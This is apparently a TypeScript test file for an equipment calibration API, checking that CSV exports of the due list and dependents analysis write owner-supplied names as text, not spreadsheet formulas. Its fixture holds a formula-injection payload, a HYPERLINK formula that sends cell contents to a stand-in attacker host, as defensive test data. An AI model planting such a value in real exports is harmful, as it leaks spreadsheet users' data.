/**
 * Owner-supplied names reach the due list and the impact analysis as CSV:
 * there they are text, never formulas a spreadsheet would run (issue 16, item 6).
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { parseCsv } from '../../src/codecs/csv.ts';
import { withApp } from '../helpers/app.ts';
import { testDatabases } from '../helpers/db.ts';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Price scale")';
const SCALE = {
  id: 'scale-evil',
  ownerId: 'city-market',
  name: EVIL,
  assetCode: '@SUM(1+1)',
  quantity: 'mass',
  range: { min: '0.04', max: '30', unit: 'kg' },
  accuracy: { kind: 'class', accuracyClass: 'III' },
  level: 'working_instrument',
  category: 'MV016',
  usage: 'trade_settlement',
};

/** The CSV body's rows keyed by the header, and the raw lines. */
function table(body: string): { rows: Array<Record<string, string>>; lines: string[] } {
  const [header, ...rows] = parseCsv(body);
  return { rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))), lines: body.split('\r\n') };
}

for (const database of testDatabases()) {
  const it = suite(`CSV formula injection on ${database.name}`);

  it('GET /v1/due?format=csv writes an owner-supplied formula as text, and negative day counts as numbers', () =>
    withApp(database, async ({ app, keyFor }) => {
      const owner = await keyFor('owner', 'city-market');
      const created = await app.inject({ method: 'POST', url: '/v1/equipment', headers: { authorization: `Bearer ${owner}` }, payload: SCALE });
      assert.is(created.statusCode, 201, created.body);
      const res = await app.inject({ method: 'GET', url: '/v1/due?from=2026-11-25&to=2027-01-31&category=MV016&format=csv' });
      assert.is(res.statusCode, 200, res.body);
      const { rows, lines } = table(res.body);
      const evil = rows.find((r) => r.equipment_id === 'scale-evil');
      assert.ok(evil, res.body);
      assert.is(evil!.name, `'${EVIL}`);
      assert.is(evil!.asset_code, "'@SUM(1+1)");
      assert.ok(
        lines.some((l) => l.startsWith(`scale-evil,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Price scale"")","'@SUM(1+1)",`)),
        res.body,
      );
      // scale-stall-42 is 37 days overdue: the count stays a number
      const overdue = lines.find((l) => l.startsWith('scale-stall-42,'))!;
      assert.match(overdue, /,overdue,2026-10-19,-37,/);
    }));

  it('GET /v1/equipment/{id}/dependents?format=csv writes an owner-supplied formula as text', () =>
    withApp(database, async ({ app, keyFor }) => {
      const owner = await keyFor('owner', 'city-market');
      assert.is((await app.inject({ method: 'POST', url: '/v1/equipment', headers: { authorization: `Bearer ${owner}` }, payload: SCALE })).statusCode, 201);
      const rec = await app.inject({
        method: 'POST',
        url: '/v1/calibrations',
        payload: {
          kind: 'verification',
          subjectId: 'scale-evil',
          labId: 'district-station',
          referenceIds: ['district-f1-set'],
          certificateNo: 'XH-JD2026-09990',
          performedOn: '2026-11-20',
          validUntil: '2027-11-19',
          conformity: 'pass',
          points: [{ nominal: '15', asFound: '15.0050', expandedUncertainty: '0.00020', coverageFactor: '2', unit: 'kg' }],
        },
      });
      assert.is(rec.statusCode, 201, rec.body);
      const res = await app.inject({ method: 'GET', url: '/v1/equipment/city-e1-set/dependents?since=2025-01-01&format=csv' });
      assert.is(res.statusCode, 200, res.body);
      const { rows } = table(res.body);
      const evil = rows.find((r) => r.equipment_id === 'scale-evil');
      assert.ok(evil, res.body);
      assert.is(evil!.name, `'${EVIL}`);
      assert.ok(res.body.includes(`"'=HYPERLINK(`), res.body);
      assert.not.ok(/(^|,)=/m.test(res.body), 'no cell starts with =');
    }));

  it.run();
}
